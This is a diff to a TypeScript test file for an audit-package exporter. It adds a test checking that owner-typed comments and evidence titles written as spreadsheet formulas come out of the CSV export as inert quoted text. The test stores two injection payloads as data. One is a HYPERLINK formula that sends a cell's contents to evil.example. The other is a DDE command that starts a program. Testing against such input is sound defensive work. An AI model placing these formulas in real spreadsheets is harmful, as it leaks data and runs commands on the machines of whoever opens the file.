@@ -22,7 +22,9 @@ import type { PackageFile } from '../lib/domain/export/package.ts';
 import { zipPackage } from '../lib/domain/export/zip.ts';
 import { InputError, NotFoundError } from '../lib/errors.ts';
 import type { Runtime } from '../lib/runtime.ts';
+import { registerEvidence } from '../lib/usecases/evidence/register.ts';
 import { exportPackage } from '../lib/usecases/export/export-package.ts';
+import { answerTask } from '../lib/usecases/review/answer.ts';
 import type { ManifestSigner } from '../lib/usecases/export/signer.ts';
 import { testRuntime } from './support/local-store.ts';
 import { runSampleCycle, SAMPLE_NOW, SAMPLE_ORG } from './support/sample-cycle.ts';
@@ -396,5 +398,24 @@ describe('the audit package of the sample organisation', () => {
       expect(noDir.stderr).toMatch(/^DIR .*no-such-package-dir: no such folder\n$/);
       expect(existsSync(path.join(ROOT, 'audit-package-harbour-ledger-2026-Q5-json'))).toBe(false);
     });
+  });
+
+  // Last: it adds an answer and an item to the sample the tests above read.
+  it('csv: a comment or title an owner typed as a formula is text in the spreadsheet, as typed in the JSON, and the package verifies', async () => {
+    const formula = '=HYPERLINK("http://evil.example/?x="&A1,"Click for details")';
+    const dde = "=cmd|' /C calc'!A0";
+    const now = new Date('2026-11-30T10:00:00Z');
+    const item = await registerEvidence(rt, ORG, 'jason-tsang', { control: 'A.8.13', title: dde, kind: 'restore-test', location: 's3://harbour-ledger-evidence/a.8.13/formula.pdf', sha256: 'ab'.repeat(32) }, now);
+    await answerTask(rt, { orgId: ORG, taskId: `${quarter}/A.8.13`, as: 'jason-tsang', result: 'not-effective', comment: formula, now });
+    const csv = await exportAs('csv', now);
+    const text = (name: string) => (csv.files.find((f) => f.path === name)?.content as Buffer).toString('utf8');
+    const review = parse(text('review.csv'), { bom: true, columns: true }) as Record<string, string>[];
+    expect(review.find((r) => r.control === 'A.8.13')?.comment).toBe(`'${formula}`);
+    const evidence = parse(text('evidence.csv'), { bom: true, columns: true }) as Record<string, string>[];
+    expect(evidence.find((r) => r.evidence === item.id)?.title).toBe(`'${dde}`);
+    expect(verifyPackage(asMap(csv.files), { trustedKeyPem: signer.publicKeyPem }).ok).toBe(true);
+    const data = await exportAs('json', now);
+    expect((json(data.files, 'review.json') as { tasks: { control: string; comment?: string }[] }).tasks.find((t) => t.control === 'A.8.13')?.comment).toBe(formula);
+    expect((json(data.files, 'evidence.json') as { evidence: { id: string; title: string }[] }).evidence.find((e) => e.id === item.id)?.title).toBe(dde);
   });
 });
